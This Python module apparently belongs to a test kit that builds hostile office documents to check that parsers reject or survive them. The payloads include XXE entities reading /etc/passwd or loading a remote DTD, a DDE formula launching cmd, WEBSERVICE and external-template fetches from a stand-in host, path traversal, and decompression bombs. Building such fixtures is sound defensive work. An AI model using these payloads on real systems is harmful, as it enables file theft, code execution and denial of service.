# ruff: noqa: E501 - a table of bytes reads better in long rows
"""Hostile office papers: DOCX, XLSX, XLS, DOC and OFD."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator

import docx
import openpyxl

from hostilekit.archives import zipped
from hostilekit.pictures import drawn, png
from hostilekit.trap import Trap

Row = tuple[str, bytes, str, str]
Parts = dict[str, bytes]
ANY = "ok|damaged|unsafe"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
DTD = f'<!DOCTYPE x [<!ENTITY a0 "ha">{LAUGHS}]>'
SYSTEM = '<!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x [<!ENTITY % r SYSTEM "http://192.0.2.1/x.dtd"> %r;]>'


def parts_of(raw: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def package(parts: Parts) -> bytes:
    return zipped(*parts.items())


def paper() -> Parts:
    written = docx.Document()
    written.add_paragraph("陌生人的文件，第一段。")
    table = written.add_table(2, 2)
    table.cell(0, 0).text = "甲"
    out = io.BytesIO()
    written.save(out)
    return parts_of(out.getvalue())


def workbook() -> Parts:
    book = openpyxl.Workbook()
    book.active.append(["序号", "企业名称"])
    book.active.append([1, "某某"])
    out = io.BytesIO()
    book.save(out)
    return parts_of(out.getvalue())


def traps() -> Iterator[Trap]:
    for part in (_word, _excel, _ofd, _old):
        for name, content, status, why in part():
            yield Trap(f"office/{name}", content, status, why)


def _document(body: str, dtd: str = "") -> bytes:
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f"{head}{dtd}<w:document {W}><w:body>{body}</w:body></w:document>".encode()


def _word() -> Iterator[Row]:
    sound, main = paper(), "word/document.xml"
    said = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"

    def changed(**more: bytes) -> bytes:
        return package(
            {**sound, **{k.replace("__", "/").replace("_xml", ".xml"): v for k, v in more.items()}}
        )

    for name, dtd in (("laughs", DTD), ("reads-our-file", SYSTEM), ("fetches", REMOTE)):
        content = _document(said.format("&a9;"), dtd)
        yield (
            f"entity-{name}.docx",
            package({**sound, main: content}),
            "damaged|ok|unsafe",
            "entities are not expanded",
        )
    yield (
        "no-document.docx",
        package({k: v for k, v in sound.items() if k != main}),
        "damaged|unsupported",
        "a part is missing",
    )
    yield (
        "no-types.docx",
        package({k: v for k, v in sound.items() if "Types" not in k}),
        "ok|damaged",
        "a part is missing",
    )
    yield (
        "xml-bomb.docx",
        package({**sound, main: _document(" " * (120 << 20))}),
        ANY,
        "120 MB of blanks",
    )
    deep = "<w:tbl><w:tr><w:tc>" * 3000 + said.format("a") + "</w:tc></w:tr></w:tbl>" * 3000
    yield "tables-3000-deep.docx", package({**sound, main: _document(deep)}), ANY, "deeply nested"
    runs = said.format("字") * 150_000
    yield (
        "150000-paragraphs.docx",
        package({**sound, main: _document(runs)}),
        ANY,
        "a very long paper",
    )
    yield (
        "half-xml.docx",
        package({**sound, main: sound[main][:600]}),
        "damaged",
        "the text breaks off",
    )
    yield "noise.docx", package({**sound, main: bytes(range(256)) * 50}), "damaged", "no XML"
    rels = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    away = (
        rels
        + b'<Relationship Id="r1" Type="%sattachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
        % kind
    )
    yield (
        "fetches-template.docx",
        package({**sound, "word/_rels/document.xml.rels": away}),
        "ok|damaged",
        "never fetched",
    )
    out = (
        rels
        + b'<Relationship Id="r1" Type="%simage" Target="../../../../etc/passwd"/></Relationships>'
        % kind
    )
    yield (
        "picture-outside.docx",
        package({**sound, "word/_rels/document.xml.rels": out}),
        "ok|damaged",
        "leads out of the package",
    )
    own = (
        rels
        + b'<Relationship Id="r1" Type="%sofficeDocument" Target="document.xml"/></Relationships>'
        % kind
    )
    yield (
        "relation-in-a-circle.docx",
        package({**sound, "word/_rels/document.xml.rels": own}),
        "ok|damaged",
        "the paper holds itself",
    )
    bomb = png(30_000, 30_000, b"\0" * (3_751 * 30_000))
    yield "picture-bomb.docx", _with_picture(bomb), ANY, "a picture of 900 megapixels"
    macro = {**sound, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 900}
    yield "macro.docx", package(macro), "ok", "never run"


def _with_picture(content: bytes) -> bytes:
    written = docx.Document()
    written.add_paragraph("附图")
    written.add_picture(io.BytesIO(drawn("PNG", (200, 200))))
    out = io.BytesIO()
    written.save(out)
    parts = parts_of(out.getvalue())
    (name,) = (n for n in parts if n.startswith("word/media/"))
    return package({**parts, name: content})


def _excel() -> Iterator[Row]:
    sound, sheet = workbook(), "xl/worksheets/sheet1.xml"
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'

    def cells(body: str, *, dtd: str = "", more: str = "") -> bytes:
        text = f'<?xml version="1.0"?>{dtd}<worksheet {ns}><sheetData>{body}</sheetData>{more}</worksheet>'
        return package({**sound, sheet: text.encode()})

    one = '<row r="{0}"><c r="{1}{0}"><v>7</v></c></row>'
    far = one.format(1, "A") + one.format(1_048_576, "XFD")
    yield "17-billion-cells.xlsx", cells(far), ANY, "two filled cells, far apart"
    wide = one.format(1, "A") + one.format(60, "XFD")
    yield "million-cells.xlsx", cells(wide), ANY, "a million cells, two filled"
    tall = "".join(one.format(n, "C") for n in range(1, 60_000))
    yield "60000-rows.xlsx", cells(tall), ANY, "a long list"
    yield (
        "entity-laughs.xlsx",
        cells("<row><c t='str'><v>&a9;</v></c></row>", dtd=DTD),
        ANY,
        "entities",
    )
    yield (
        "entity-reads-our-file.xlsx",
        cells("<row><c t='str'><v>&a9;</v></c></row>", dtd=SYSTEM),
        ANY,
        "entities",
    )
    yield (
        "no-sheet.xlsx",
        package({k: v for k, v in sound.items() if k != sheet}),
        ANY,
        "a part is missing",
    )
    yield (
        "no-workbook.xlsx",
        package({k: v for k, v in sound.items() if k != "xl/workbook.xml"}),
        "damaged",
        "a part is missing",
    )
    yield (
        "half-xml.xlsx",
        package({**sound, sheet: sound[sheet][:200]}),
        ANY,
        "the sheet breaks off",
    )
    strings = f"<sst {ns}><si><t>{'x' * (100 << 20)}</t></si></sst>".encode()
    yield (
        "strings-bomb.xlsx",
        package({**sound, "xl/sharedStrings.xml": strings}),
        ANY,
        "100 MB of one text",
    )
    merged = "".join(f'<mergeCell ref="A{n}:XFD{n + 900}"/>' for n in range(1, 900))
    more = f"<mergeCells>{merged}</mergeCells>"
    yield (
        "merged-over-all.xlsx",
        cells(one.format(1, "A"), more=more),
        ANY,
        "merged areas of 13 billion cells",
    )
    dde = "<row r='1'><c r='A1'><f>cmd|'/c calc'!A0</f><v>1</v></c><c r='B1'><f>WEBSERVICE(\"http://192.0.2.1\")</f></c></row>"
    yield "formula-runs-program.xlsx", cells(dde), "ok", "never run, never fetched"
    index = (
        '<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" s="99999"><v>1e999</v></c></row>'
    )
    yield "string-number-4-billion.xlsx", cells(index), ANY, "a text that is not there"
    book = openpyxl.Workbook()
    for n in range(1500):
        book.create_sheet(f"表{n}")
    out = io.BytesIO()
    book.save(out)
    yield "1501-sheets.xlsx", out.getvalue(), ANY, "sheets without end"


OFD_NS = 'xmlns:ofd="http://www.ofdspec.org/2016"'
BOX = "<ofd:PhysicalBox>{}</ofd:PhysicalBox>"


def _layout(
    objects: str = "", *, box: str = "0 0 210 297", dtd: str = "", page: str = "Pages/P0/Content.xml",
    root: str = "Doc_0/Document.xml", common: str = "", pages: str = "", more: Parts | None = None,
) -> bytes:  # fmt: skip
    listed = pages or f'<ofd:Page ID="1" BaseLoc="{page}"/>'
    parts = {
        "OFD.xml": f'{dtd}<ofd:OFD {OFD_NS} Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocInfo/>'
        f"<ofd:DocRoot>{root}</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
        "Doc_0/Document.xml": f"<ofd:Document {OFD_NS}><ofd:CommonData><ofd:PageArea>{BOX.format(box)}"
        f"</ofd:PageArea>{common}</ofd:CommonData><ofd:Pages>{listed}</ofd:Pages></ofd:Document>",
        "Doc_0/Pages/P0/Content.xml": f"<ofd:Page {OFD_NS}><ofd:Content><ofd:Layer ID='2'>{objects}"
        "</ofd:Layer></ofd:Content></ofd:Page>",
    }
    return package({**{k: v.encode() for k, v in parts.items()}, **(more or {})})


OFD_WORD = (
    '<ofd:TextObject ID="9" Boundary="20 20 90 9" Font="3" Size="4"><ofd:TextCode X="0" Y="4" '
    'DeltaX="g 5 4">{}</ofd:TextCode></ofd:TextObject>'
)


def paper_ofd() -> bytes:
    """A good page of one line."""
    return _layout(OFD_WORD.format("一二三四五六"))


def _ofd() -> Iterator[Row]:
    word = OFD_WORD
    yield (
        "entity-laughs.ofd",
        _layout(word.format("&a9;"), dtd=DTD),
        "damaged|unsafe|ok",
        "entities",
    )
    yield "entity-reads-our-file.ofd", _layout(dtd=SYSTEM), "damaged|unsafe|ok", "entities"
    yield (
        "page-outside.ofd",
        _layout(page="../../../../etc/passwd"),
        ANY,
        "leads out of the package",
    )
    yield "no-page.ofd", _layout(page="Pages/P9/Content.xml"), ANY, "a part is missing"
    yield "no-document.ofd", _layout(root="Doc_9/Document.xml"), "damaged", "a part is missing"
    yield (
        "absurd-box.ofd",
        _layout(word.format("一二三四五六"), box="0 0 1e9 1e9"),
        ANY,
        "a page of 1,000 km",
    )
    yield "zero-box.ofd", _layout(word.format("一二三四五六"), box="0 0 0 0"), ANY, "no size"
    yield (
        "nan-box.ofd",
        _layout(word.format("一二三四五六"), box="nan inf -inf 1"),
        ANY,
        "no numbers",
    )
    yield "60000-texts.ofd", _layout(word.format("一") * 60_000), ANY, "letters one by one"
    listed = "".join(f'<ofd:Page ID="{n}" BaseLoc="Pages/P0/Content.xml"/>' for n in range(9_000))
    yield "9000-pages.ofd", _layout(pages=listed), "unsafe", "one page 9,000 times"
    own = '<ofd:TemplatePage ID="7" BaseLoc="Pages/P0/Content.xml"/>'
    yield (
        "template-in-itself.ofd",
        _layout('<ofd:Template TemplateID="7"/>' + word.format("一二"), common=own),
        ANY,
        "a circle",
    )
    deep = '<ofd:PageBlock ID="4">' * 5_000 + "</ofd:PageBlock>" * 5_000
    yield "blocks-5000-deep.ofd", _layout(deep), ANY, "deeply nested"
    bomb = {"Doc_0/Res/a.png": png(30_000, 30_000, b"\0" * (3_751 * 30_000))}
    bomb["Doc_0/PublicRes.xml"] = (
        f"<ofd:Res {OFD_NS} BaseLoc='Res'><ofd:MultiMedias><ofd:MultiMedia ID='6' Type='Image'>"
        "<ofd:MediaFile>a.png</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias></ofd:Res>"
    ).encode()
    shown = '<ofd:ImageObject ID="8" Boundary="0 0 210 297" CTM="210 0 0 297 0 0" ResourceID="6"/>'
    common = "<ofd:PublicRes>PublicRes.xml</ofd:PublicRes>"
    yield "picture-bomb.ofd", _layout(shown, common=common, more=bomb), ANY, "900 megapixels"
    blank = _layout(word.format("一二三四五六"), more={"Doc_0/x.xml": b" " * (150 << 20)})
    yield "part-bomb.ofd", blank, ANY, "150 MB of blanks"
    yield "only-root.ofd", zipped(("OFD.xml", b"<OFD/>")), "damaged", "a root and nothing else"


def _old() -> Iterator[Row]:
    head = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6)
    )
    ole = (head + struct.pack("<10xIIIIIIIII", 1, 0, 0, 4096, 0, 0, 0, 0, 0)).ljust(512, b"\0")

    def entry(name: str, kind: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        body = (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", 0, 0, 0)
        )
        return body.ljust(116, b"\0") + struct.pack("<IQ", start, size)

    def made(name: str, loop: bytes = b"\0\0\0\0") -> bytes:
        folder = entry("Root Entry", 5, 0, 0) + entry(name, 2, 2, 9000)
        return ole + folder.ljust(512, b"\0") + loop * 128 + b"\x77" * 4096

    yield "locked.docx", made("EncryptedPackage"), "encrypted", "Office's own password"
    yield (
        "tables-in-a-circle.xls",
        made("Workbook"),
        "damaged|unsupported|ok",
        "sectors lead to themselves",
    )
    yield (
        "tables-in-a-circle.doc",
        made("WordDocument"),
        "damaged|unsupported|ok",
        "sectors lead to themselves",
    )
    yield "head-only.xls", ole, "damaged|unsupported", "nothing but the head"
    yield (
        "sector-noise.doc",
        ole + bytes(range(256)) * 60,
        "damaged|unsupported",
        "a head and noise",
    )
